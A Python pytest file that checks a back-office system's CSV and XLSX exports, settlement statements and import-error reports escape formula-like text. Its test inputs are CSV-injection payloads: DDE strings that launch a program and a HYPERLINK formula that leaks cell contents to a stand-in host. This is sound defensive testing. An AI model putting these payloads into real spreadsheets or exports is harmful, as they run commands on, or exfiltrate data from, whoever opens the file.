"""Exports never hand a spreadsheet a live formula: text that came from a terminal or a form
(names, descriptions, bad import rows) and starts like a formula gets a leading apostrophe in
every CSV and XLSX export (OWASP's CSV-injection rule), while numbers stay numbers."""

import csv
import io
from collections.abc import Callable
from datetime import UTC, date, datetime

import pytest
from fastapi.testclient import TestClient
from openpyxl import load_workbook
from pydantic import BaseModel

from backoffice.contracts.settlement import AccountEntryPublic, StatementDetail, StatementPublic
from backoffice.domain.users import Role
from backoffice.services import exports
from backoffice.services.settlement import statements
from tests.backoffice.helpers import csv_bytes, iccid

ATTACKS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?leak="&A1,"点这里")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


class Row(BaseModel):
    name: str
    amount_fen: int
    text_number: str


COLUMNS = (("名称", "name"), ("金额", "amount_fen"), ("文本", "text_number"))


@pytest.mark.parametrize("attack", ATTACKS)
def test_a_formula_becomes_text_in_xlsx_and_csv(attack: str) -> None:
    rows = [Row(name=attack, amount_fen=-500, text_number="-12.50")]

    body, _ = exports.render("xlsx", "表", COLUMNS, rows)
    sheet = load_workbook(io.BytesIO(body)).active
    name, amount, number = sheet[2]
    # (XML reads a carriage return back as a line feed.)
    assert name.data_type == "s" and name.value == "'" + attack.replace("\r", "\n")
    assert (amount.data_type, amount.value) == ("n", -500)
    assert number.value == "-12.50"

    body, _ = exports.render("csv", "表", COLUMNS, rows)
    read = list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))
    assert read[1] == ["'" + attack, "-500", "-12.50"]


def test_plain_text_and_numbers_are_left_alone() -> None:
    for value in ("越城通讯", "139 0575 0000", "1e5", "-7", "+3.5", 0, -1.5, None):
        assert exports.safe_cell(value) == value
    # Already made safe: not made safe twice.
    assert exports.safe_cell("'=1+1") == "'=1+1"


def test_control_characters_from_a_terminal_do_not_break_an_xlsx_export() -> None:
    body, _ = exports.render(
        "xlsx", "表", COLUMNS, [Row(name="王\x00五\x1b", amount_fen=1, text_number="")]
    )
    assert load_workbook(io.BytesIO(body)).active["A2"].value == "王\ufffd五\ufffd"


def _statement(dealer_name: str, description: str) -> StatementDetail:
    now = datetime.now(UTC)
    totals = dict.fromkeys((name for _, name in statements.TOTALS), 0)
    statement = StatementPublic(
        id="s1",
        number="ST-1",
        dealer_id="d1",
        cadence="month",
        period_start=date(2026, 11, 1),
        period_end=date(2026, 11, 30),
        status="draft",
        line_count=1,
        comment="",
        computed_at=now,
        computed_by="sales1",
        updated_at=now,
        updated_by="sales1",
        **totals,
    )
    line = AccountEntryPublic(
        id="e1",
        dealer_id="d1",
        kind="adjustment",
        amount_fen=-1000,
        retail_fen=0,
        occurred_on=date(2026, 11, 3),
        booked_on=date(2026, 11, 3),
        late=False,
        item_key=None,
        description=description,
        reason="@SUM(A1)",
        approver="",
        actor="sales1",
        created_at=now,
    )
    return StatementDetail(
        statement=statement, dealer_code="D1", dealer_name=dealer_name, lines=[line]
    )


def test_settlement_statements_go_through_the_same_rule() -> None:
    detail = _statement('=HYPERLINK("http://evil.example")', "=cmd|' /C calc'!A0")

    book = load_workbook(io.BytesIO(statements.render_xlsx(detail)))
    dealer = next(row[1] for row in book["汇总"].iter_rows() if row[0].value == "代理商")
    assert dealer.data_type == "s" and dealer.value.startswith("D1 =")  # not at the start
    description, amount, note = book["明细"]["E2"], book["明细"]["G2"], book["明细"]["I2"]
    assert description.data_type == "s" and description.value == "'=cmd|' /C calc'!A0"
    assert (amount.data_type, amount.value) == ("n", -10)
    assert note.value == "'@SUM(A1)"

    read = list(csv.reader(io.StringIO(statements.render_csv(detail).decode("utf-8-sig"))))
    line = read[-1]
    assert line[4] == "'=cmd|' /C calc'!A0" and line[6] == "-1000" and line[8] == "'@SUM(A1)"


def test_an_import_report_returns_bad_rows_made_safe(
    client: TestClient, login: Callable[[Role], dict[str, str]]
) -> None:
    billing = login(Role.billing)
    data = csv_bytes(
        "iccid,imsi",
        f"{iccid(1)},460005710000001",
        "=cmd|' /C calc'!A0,460005710000002",
        f'{iccid(3)},=HYPERLINK("http://evil.example")',
    )
    reply = client.post(
        "/api/v1/sim-batches/import",
        headers=billing,
        files={"file": ("sims.csv", data, "text/csv")},
        data={"skip_bad_rows": "true", "code": "SIM-X"},
    )
    assert reply.status_code == 201, reply.text
    download = client.get(reply.json()["rejected_rows_url"], headers=billing)
    rows = list(csv.reader(io.StringIO(download.content.decode("utf-8-sig"), newline="")))
    assert rows[1][:2] == ["'=cmd|' /C calc'!A0", "460005710000002"]
    assert rows[2][1] == '\'=HYPERLINK("http://evil.example")'
